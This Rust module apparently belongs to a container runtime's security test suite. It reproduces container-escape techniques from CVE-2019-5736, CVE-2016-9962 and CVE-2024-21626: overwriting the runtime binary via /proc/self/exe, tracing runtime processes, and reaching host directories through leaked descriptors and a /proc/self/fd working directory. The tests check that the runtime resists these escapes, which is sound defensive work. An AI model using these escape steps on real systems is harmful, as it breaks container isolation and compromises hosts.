//! Processes of the container against those of the runtime: its program, its memory, its descriptors.

use std::os::fd::{AsRawFd as _, OwnedFd};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use rustix::fs::{CWD, FileType, Mode, OFlags};
use serde_json::{Value, json};

use super::Attack;
use super::house::House;

pub(crate) const ATTACKS: &[Attack] = &[
    Attack {
        name: "the_runtimes_program_is_not_overwritten_by_way_of_proc_self_exe",
        seen: "CVE-2019-5736",
        weakness: "program",
        attempt: program,
    },
    Attack {
        name: "the_runtimes_program_is_not_overwritten_by_its_own_script",
        seen: "CVE-2019-5736",
        weakness: "program",
        attempt: script,
    },
    Attack {
        name: "an_init_that_waits_is_not_looked_into",
        seen: "CVE-2016-9962, CVE-2019-5736",
        weakness: "tracing",
        attempt: created_init,
    },
    Attack {
        name: "a_process_that_joins_is_not_looked_into",
        seen: "CVE-2016-9962, CVE-2019-5736; raced",
        weakness: "tracing",
        attempt: joining_process,
    },
    Attack {
        name: "no_descriptor_of_the_callers_leaks_in",
        seen: "CVE-2024-21626",
        weakness: "descriptors",
        attempt: leaked_descriptors,
    },
    Attack {
        name: "no_working_directory_is_a_leaked_one",
        seen: "CVE-2024-21626",
        weakness: "descriptors",
        attempt: leaked_directory,
    },
];

/// A container waits for the runtime's program to run in it, and writes to it as soon as it has ended.
fn overwrite(house: &House, words: &[&str]) -> Option<String> {
    let before = std::fs::read(house.runtime()).unwrap();
    rustix::fs::mknodat(CWD, house.rootfs().join("fifo"), FileType::Fifo, Mode::from_raw_mode(0o666), 0)
        .unwrap();
    house.probe(&["overwrite-program", "/fifo"]);
    // No command stays: a program that runs cannot be written anyway.
    let out = std::fs::File::create(house.path("out")).unwrap();
    let (mut command, err) = (house.command(&["run", "--detach", "one"]), out.try_clone().unwrap());
    assert!(command.stdout(out).stderr(err).status().unwrap().success());
    house.wait_for("out", "ready\n");
    house.run(&[&["exec", "one"], words].concat()).any();
    house.wait_for("out", "at last\n");
    let said = house.read("out");
    house.note(said.replace("ready\n", "").replace("\nat last", "").trim());
    assert!(said.contains("overwritten") || said.contains("refused: Read-only"), "nothing was tried: {said}");
    let changed = std::fs::read(house.runtime()).unwrap() != before;
    changed.then(|| "the runtime's file on the host was overwritten".to_owned())
}

fn program(house: &House) -> Option<String> {
    overwrite(house, &["/proc/self/exe", "--log", "/fifo", "list"])
}

fn script(house: &House) -> Option<String> {
    let path = house.rootfs().join("script");
    std::fs::write(&path, "#!/proc/self/exe --log=/fifo\n").unwrap();
    std::fs::set_permissions(&path, PermissionsExt::from_mode(0o755)).unwrap();
    overwrite(house, &["/script"])
}

/// A second container in the first one's PID namespace waits to be started.
fn created_init(house: &House) -> Option<String> {
    house.probe(&["sleep"]);
    let mut first = house.start("one", "out");
    house.wait_for("out", "ready\n");
    let state: Value = serde_json::from_str(&house.run(&["state", "one"]).out).unwrap();
    house.change(|config| {
        for namespace in config["linux"]["namespaces"].as_array_mut().unwrap() {
            if namespace["type"] == "pid" {
                namespace["path"] = format!("/proc/{}/ns/pid", state["pid"]).into();
            }
        }
        config["linux"]["cgroupsPath"] = format!("/{}/two", house.parent()).into();
    });
    house.run(&["create", "two"]).fine();
    let said = house.run(&["exec", "one", "/probe", "look-into", "300"]).fine();
    assert!(!said.contains(", 0 looks"), "there was nobody to look into");
    house.run(&["delete", "--force", "two"]).fine();
    house.run(&["delete", "--force", "one"]).fine();
    first.wait().unwrap();
    looked(&said)
}

/// The container looks while others join it, one after the other.
fn joining_process(house: &House) -> Option<String> {
    house.probe(&["look-into", "600000"]);
    let mut attacker = house.start("one", "out");
    house.wait_for("out", "ready\n");
    let mut rounds = 0;
    for _ in 0..house.rounds(5) {
        if !house.run(&["exec", "one", "/probe", "exit", "0"]).err.is_empty() {
            break;
        }
        rounds += 1;
    }
    std::fs::write(house.rootfs().join("stop"), "").unwrap();
    attacker.wait().unwrap();
    let said = house.read("out");
    house.note(&format!("{rounds} rounds, {}", said.replace("ready\n", "").trim()));
    looked(&said)
}

fn looked(said: &str) -> Option<String> {
    said.lines()
        .find(|line| line.starts_with("looked"))
        .map(|line| format!("into the runtime's process: {line}"))
}

/// Descriptors of the host's directory that every child of this process inherits, and their numbers.
fn leak(house: &House) -> (Vec<OwnedFd>, Vec<i32>) {
    let flags = OFlags::RDONLY | OFlags::DIRECTORY;
    let mut leaked = vec![rustix::fs::open(house.outside(), flags, Mode::empty()).unwrap()];
    for _ in 0..13 {
        leaked.push(rustix::io::dup(&leaked[0]).unwrap());
    }
    let numbers = leaked.iter().map(|fd| fd.as_raw_fd()).collect();
    (leaked, numbers)
}

fn leaked_descriptors(house: &House) -> Option<String> {
    let (_leaked, numbers) = leak(house);
    house.probe(&["report"]);
    let outside = house.outside();
    let seen = |report: &str| {
        let report: Value = serde_json::from_str(report).unwrap();
        let mut open = numbers.iter().map(|number| format!("fd{number}"));
        open.find(|key| {
            report[key].as_str().is_some_and(|to| Path::new(to).ends_with(outside.file_name().unwrap()))
        })
    };
    let mut found = seen(&house.run(&["run", "one"]).fine());
    house.probe(&["sleep"]);
    house.run(&["run", "--detach", "two"]).fine();
    let joined = seen(&house.run(&["exec", "two", "/probe", "report"]).fine());
    found = found.or(joined);
    house.run(&["delete", "--force", "two"]).fine();
    found.map(|key| format!("{key} of the program is a directory of the host's"))
}

fn leaked_directory(house: &House) -> Option<String> {
    let (_leaked, numbers) = leak(house);
    let numbers: Vec<i32> = (3..16).chain(numbers).collect();
    let mut found = None;
    let mut look = |how: &str, number: i32, out: &str| {
        let report: Value = serde_json::from_str(out).unwrap_or_default();
        if report["secret"] == "secret" {
            found = Some(format!("{how} in the host's directory, by descriptor {number}"));
        }
    };
    house.probe(&["report"]);
    for number in &numbers {
        house.change(|config| config["process"]["cwd"] = format!("/proc/self/fd/{number}").into());
        look("run", *number, &house.run(&["run", "one"]).out);
    }
    house.probe(&["sleep"]);
    house.change(|config| config["process"]["cwd"] = json!("/"));
    house.run(&["run", "--detach", "two"]).fine();
    for number in &numbers {
        let cwd = format!("/proc/self/fd/{number}");
        look("exec", *number, &house.run(&["exec", "--cwd", &cwd, "two", "/probe", "report"]).out);
    }
    house.run(&["delete", "--force", "two"]).fine();
    found
}
